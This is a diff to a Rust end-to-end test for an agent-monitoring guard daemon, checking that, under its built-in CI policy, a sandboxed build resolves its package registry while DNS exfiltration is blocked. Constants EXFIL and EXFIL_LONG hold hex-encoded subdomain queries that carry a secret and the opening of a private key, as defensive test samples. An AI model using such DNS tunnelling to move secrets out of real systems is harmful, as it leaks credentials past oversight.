@@ -5,13 +5,16 @@
 //! never appears there. The session asks with dig (UDP and TCP, which checks that
 //! an answer comes from the server it asked) and with glibc (`getent`).
 
+use std::ffi::OsStr;
 use std::io::Read as _;
 use std::net::{Ipv4Addr, TcpListener};
 use std::path::Path;
 use std::process::{Child, Command, Stdio};
 use std::time::Duration;
 
-use guard_tests::{Enforcing, Event, NetNs, dump, fake_agent_exe, scaled, wait_until};
+use guard_tests::{
+    Daemon, Enforcing, Event, EventsTo, NetNs, dump, fake_agent_exe, scaled, wait_until,
+};
 
 const ZONE: &str = "guard-test.example";
 /// A name the policy allows.
@@ -22,7 +25,8 @@ const EXFIL: &str = "6b65793d31.7365637265740a.exfil.guard-test.example";
 const EXFIL_LONG: &str =
     "2d2d2d2d2d424547494e204f50454e53.53482050524956415445204b4559.2d2d2d2d2d0a.guard-test.example";
 
-/// dnsmasq answering every name of [`ZONE`] with 127.0.0.1, listening on `addr`:53
+/// dnsmasq answering every name of [`ZONE`] (and registry.npmjs.org) with 127.0.0.1,
+/// listening on `addr`:53
 /// (UDP and TCP), logging each query it gets; stopped at drop.
 struct Dnsmasq {
     child: Child,
@@ -48,6 +52,8 @@ impl Dnsmasq {
         ])
         .arg(format!("--listen-address={addr}"))
         .arg(format!("--address=/{ZONE}/127.0.0.1"))
+        // A registry's name, in a namespace of the test's (no query leaves it).
+        .arg("--address=/registry.npmjs.org/127.0.0.1")
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(out);
@@ -244,10 +250,13 @@ action = "deny"
 }
 
 /// In a network namespace of its own (a container's, joined to the host by a
-/// veth), a session's DNS goes to a resolver guard starts there: glibc's lookups
-/// of allowed names answer; others never reach the namespace's server.
+/// veth), under the built-in `ci` policy: a session's DNS goes to a resolver guard
+/// starts there, which forwards to the namespace's own server (the one its
+/// resolv.conf names; the policy does not let the session reach it itself). A
+/// package registry's name resolves and its address serves what a build fetches;
+/// a name the policy does not hold never reaches the server.
 #[test]
-fn a_namespace_with_an_interface_gets_a_resolver_of_its_own() {
+fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy() {
     let ns = NetNs::new();
     let veth = ns.veth();
     let etc = Path::new("/etc/netns").join(ns.name());
@@ -264,47 +273,64 @@ fn a_namespace_with_an_interface_gets_a_resolver_of_its_own() {
         }
     }
     let _etc = Cleanup(etc);
-    let rules = format!(
-        r#"
-[dns]
-allow = ["allowed.guard-test.example"]
-
-[[rule]]
-id = "egress"
-kind = "network"
-allow = ["127.0.0.0/8", "{}:53"]
-action = "deny"
-"#,
-        veth.peer
+    let dir = guard_tests::TempDir::new("guard-e2e-resolver-ci");
+    let agent = guard_tests::FakeAgent::install(fake_agent_exe!());
+    // The built-in ci policy, for this test's agent.
+    let ci = guard_tests::guard(&[OsStr::new("policy"), OsStr::new("show"), OsStr::new("ci")]);
+    let policy = dir.join("ci.toml");
+    guard_tests::write_policy(
+        &policy,
+        &ci.replace(
+            r#"names = ["codex", "claude", "gemini", "copilot"]"#,
+            &format!(r#"names = ["{}"]"#, agent.name()),
+        ),
     );
-    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver-ns", &rules, |_| {});
-    let dns = Dnsmasq::start(ns.command("dnsmasq"), veth.peer, t.dir.path());
+    let args = [OsStr::new("--policy"), policy.as_os_str()];
+    let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);
+    let dns = Dnsmasq::start(ns.command("dnsmasq"), veth.peer, dir.path());
+    // The registry, in the namespace on its loopback (the name resolves there).
+    let registry = ns.enter(|| TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen"));
+    let port = registry.local_addr().expect("addr").port();
+    let serve = std::thread::spawn(move || {
+        use std::io::Write as _;
+        let (mut c, _) = registry.accept().expect("accept");
+        let mut req = [0u8; 1024];
+        let _ = std::io::Read::read(&mut c, &mut req);
+        let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\npackage-1");
+    });
     // The resolver starts in the namespace when the daemon reads the first exec
-    // there: until then the namespace's DNS is refused, so the first lookup is
-    // retried until it answers (bounded by `timeout`).
+    // there: until then the ci policy refuses the namespace's DNS, so the first
+    // lookup is retried until it answers (bounded by `timeout`).
+    let d = dir.path().display();
     let script = format!(
-        "timeout 20 sh -c 'until getent hosts {ALLOWED} > {{dir}}/a.out; do :; done'; \
-         getent hosts {EXFIL} > {{dir}}/b.out; echo $? > {{dir}}/b.code"
+        "timeout 20 sh -c 'until getent hosts registry.npmjs.org > {d}/a.out; do :; done'; \
+         curl -sS http://registry.npmjs.org:{port}/package > {d}/fetched; \
+         getent hosts {EXFIL} > {d}/b.out; echo $? > {d}/b.code"
     );
-    let (run, events) = t.run(
-        "ip",
-        &["netns", "exec", ns.name(), "sh", "-c", &script.replace("{dir}", &t.path(""))],
-    );
+    let run = agent.run(&["run", "ip", "netns", "exec", ns.name(), "sh", "-c", &script]);
+    let events = daemon.wait_for("the end of the session", guard_tests::session_ended(run.pid));
     run.assert_success();
-    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();
+    serve.join().expect("the registry served");
+    let out = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap_or_default();
     assert!(out("a.out").starts_with("127.0.0.1"), "{}", dump(&events));
+    assert_eq!(out("fetched"), "package-1", "{}", dump(&events));
     assert_eq!(out("b.out"), "");
     assert_eq!(out("b.code").trim(), "2", "getent: not found");
     let queries = dns.queries();
-    assert!(queries.contains(ALLOWED), "{queries}");
+    assert!(queries.contains("registry.npmjs.org"), "{queries}");
     assert!(!queries.contains("6b65793d31"), "{queries}");
-    let mine = Enforcing::of_run(&events, &run);
+    let session = guard_tests::session_of(&events, run.pid);
+    let mine: Vec<&Event> = events
+        .iter()
+        .filter(|e| e.session() == Some(session.as_str()))
+        .collect();
     assert!(
         violations(&mine, "dns.names")
             .iter()
-            .any(|v| v.kind() == "dns" && v.str("name") == Some(EXFIL)),
+            .any(|v| v.kind() == "dns" && v.str("name") == Some(EXFIL)
+                && v.str("outcome") == Some("denied")),
         "{}",
         dump(&events)
     );
-    t.finish();
+    daemon.stop_ok();
 }
